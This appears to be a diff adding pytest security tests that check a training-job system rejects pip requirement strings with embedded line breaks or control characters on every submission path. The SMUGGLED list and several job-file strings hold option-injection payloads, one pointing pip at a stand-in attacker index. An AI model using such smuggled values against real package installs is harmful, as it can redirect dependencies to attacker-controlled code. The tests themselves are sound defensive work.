@@ -1,0 +1,86 @@
+"""Inputs bounded on every path they arrive by (issue 24, items 6-10): the SDK and job files
+refuse them naming the field and the fix; the commands function dead-letters them raw with
+that reason, without failing the rest of the batch; the agent checks again where it matters.
+"""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from lambdas import commands
+from respot.agent.environment import EnvironmentBuildError, job_requirements
+from respot.exceptions import SpecError
+from respot.spec.jobfile import JobFileError, load_job_file
+from respot.spec.requirements import RequirementsError, check_requirement, parse_requirements
+from respot.spec.training import TrainingEnvVar, validate_spec
+from tests.handlers.test_handlers import CONTEXT, Env
+from tests.security.test_hostile_handlers import raw_submission, reasons
+
+BASE = {"name": "x", "entry_point": "a.b:C"}
+
+# ---- item 6: a requirement is one line pip reads as a requirement, never an option ----------
+
+SMUGGLED = [
+    "six;\n--no-index",  # the reproduced one: pip read the option
+    "six\r--index-url=https://evil.example/simple",
+    "six\x0c--no-index",  # a form feed: str.splitlines (and so pip) splits there too
+    "six\u2028--no-index",
+    "six\x85--no-index",
+    "six\x00",
+]
+
+
+@pytest.mark.parametrize("line", SMUGGLED)
+def test_a_requirement_with_a_line_break_or_control_character_is_refused(line: str) -> None:
+    with pytest.raises(RequirementsError, match="one requirement per line"):
+        check_requirement(line)
+    # AND through the spec (SDK, job files, CLI, raw messages all validate it): named
+    with pytest.raises(SpecError) as err:
+        validate_spec({**BASE, "requirements": [line]})
+    assert any(p.startswith("requirements") for p in err.value.problems), err.value.problems
+
+
+def test_a_requirements_file_line_that_is_an_option_is_refused_wherever_it_is_split() -> None:
+    for text in ("six\n--no-index\n", "six\x0c--no-index\n", "six\u2028-e .\n"):
+        with pytest.raises(RequirementsError, match="pip options are not accepted"):
+            parse_requirements(text)
+
+
+def test_a_smuggled_requirement_in_a_job_file_or_a_set_names_where_it_came_from(
+    tmp_path: Path,
+) -> None:
+    job = tmp_path / "job.yaml"
+    job.write_text('name: x\nentry_point: a.b:C\nrequirements: ["six;\\n--no-index"]\n')
+    with pytest.raises(JobFileError) as err:
+        load_job_file(job)
+    assert any("job.yaml:3: requirements" in p for p in err.value.problems), err.value.problems
+    job.write_text("name: x\nentry_point: a.b:C\n")
+    with pytest.raises(JobFileError) as err:
+        load_job_file(job, overrides=['requirements=["six;\\n--no-index"]'])
+    assert any(p.startswith("--set requirements=") for p in err.value.problems), err.value.problems
+
+
+def test_a_raw_submission_with_a_smuggled_requirement_is_dead_lettered(env: Env) -> None:
+    bad = env.sns_envelope(
+        raw_submission("job-req", spec={**BASE, "requirements": ["six;\n--no-index"]}), "submit"
+    )
+    good = env.sns_envelope(raw_submission("job-fine"), "submit")
+    response = commands.handler(env.sqs_event(bad, good), CONTEXT)
+    assert response == {"batchItemFailures": []}
+    (reason,) = reasons(env)
+    assert "requirements" in reason and "one requirement per line" in reason, reason
+    assert env.control.jobs.get("job-req") is None
+    assert env.control.jobs.get("job-fine") is not None
+
+
+def test_the_agent_checks_the_requirements_again_before_pip(tmp_path: Path) -> None:
+    # A spec that skipped validation (defense in depth: the agent is the last gate to pip).
+    spec = TrainingEnvVar.model_construct(**BASE, requirements=["six;\n--no-index"])
+    with pytest.raises(EnvironmentBuildError, match="one requirement per line"):
+        job_requirements(spec, tmp_path)
+    fine = TrainingEnvVar.model_construct(**BASE, requirements=["six==1.16.0"])
+    assert job_requirements(fine, tmp_path) == ["six==1.16.0"]
+    assert json.dumps(job_requirements(fine, tmp_path))  # plain lines
